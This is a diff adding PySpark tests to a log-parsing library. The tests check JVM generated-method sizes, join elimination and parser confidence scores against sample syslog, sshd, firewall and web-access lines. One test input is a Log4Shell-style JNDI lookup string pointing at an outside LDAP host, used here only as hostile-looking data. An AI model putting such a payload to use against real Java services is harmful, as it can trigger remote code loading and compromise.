@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 from pyspark.sql import functions as F
 
 from logsluice.operators import normalize as N
@@ -99,6 +101,50 @@ def test_counts_work_out_no_times(spark):
     assert done.columns == list(L.COUNTED)
 
 
+#: Columns that q_confidence and q_normalize show.
+SHOWN = (
+    ("line_number", "confidence", "processing_status", "valid"),
+    ("line_number", "source_name", "timestamp", "source_ip", "username", "source_port", "response_code", "event_type", "severity", "action", "status", "host"),
+)
+
+
+def test_the_machine_can_compile_each_generated_method(spark):
+    """The JVM compiles no method of more than 8,000 bytes: it would be interpreted for each line. Columns that nobody asks for took the lambda along that kept a projection apart."""
+    spark.conf.set("spark.sql.adaptive.enabled", "false")  # else there is no code before the query runs
+    try:
+        for columns in SHOWN:
+            plan = L.processed(_raw(spark, "words"), columns=columns)._jdf.queryExecution()
+            code = plan.explainString(spark._jvm.org.apache.spark.sql.execution.ExplainMode.fromString("codegen"))
+            sizes = [int(n) for n in re.findall(r"maxMethodCodeSize:(\d+)", code)]
+            assert sizes and max(sizes) < 8000
+    finally:
+        spark.conf.unset("spark.sql.adaptive.enabled")
+
+
+def test_lines_are_matched_only_where_a_column_rests_on_it(spark):
+    raw = _raw(spark, "Jan 02 03:04:05 h-1 sshd[7]: Failed password for a from 10.20.0.1 port 22 ssh2", "words", "words", " ", "${jndi:ldap://1.2.3.4/a}")
+    whole = L.processed(raw)
+    for columns in SHOWN:
+        done = L.processed(raw, columns=columns)
+        assert "Join" not in done._jdf.queryExecution().optimizedPlan().toString()
+        assert sorted(map(str, done.collect())) == sorted(map(str, whole.select(*columns).collect()))
+    assert "Join" in L.processed(raw, columns=("line_number", "disposition"))._jdf.queryExecution().optimizedPlan().toString()
+
+
+def test_a_parser_is_sure_where_its_score_is_one(spark):
+    from logsluice.operators import parsers as P
+
+    lines = [
+        "Jan 02 03:04:05 h-1 sshd[7]: Failed password for a from 10.20.0.1 port 22 ssh2", "Failed password for a from 10.20.0.1 port 22 sshd[7]:", "<34>1 2024-01-02T03:04:05Z h app 7 ID47 - job 5", "a=1 b=2",
+        "a=1", "2024-01-02T03:04:05|h|u|1.2.3.4|deny", "words", "", "Jan 02 03:04:05 h kernel: IPTABLES DROP SRC=1.1.1.1 DST=2.2.2.2", "firewall DPT=1 netfilter", "{}", "{bad}", ' {"a": 1, "action=": 2} ',
+        '10.20.0.1 - u [02/Jan/2024:03:04:05 +0000] "GET / HTTP/1.1" 200 7 "-" "a"', '10.20.0.1 - u [02/Jan/2024:03:04:05 +0000] "GET / HTTP/1.1" 200 7 "-" "a" "-" rt=0.1', 'x rt=0.1 "-" rt= urt="1"',
+    ]
+    line = F.col("content")
+    rows = _raw(spark, *lines).select("content", *[F.struct(p.sure(line).alias("sure"), (p.score(line) == 1.0).alias("one")).alias(p.name) for p in P.BUILT_IN]).collect()
+    assert [(r["content"], p.name) for r in rows for p in P.BUILT_IN if r[p.name]["sure"] != r[p.name]["one"]] == []
+    assert {p.name for p in P.BUILT_IN if any(r[p.name]["one"] for r in rows)} == {p.name for p in P.BUILT_IN} - {"keyvalue", "raw"}
+
+
 def test_store_writes_matches_once_before_their_buckets(spark, tmp_path, monkeypatch):
     """A run leaves it to the keyed table to store what it takes, and stores the columns that it keeps."""
     from logsluice.functions import keyed
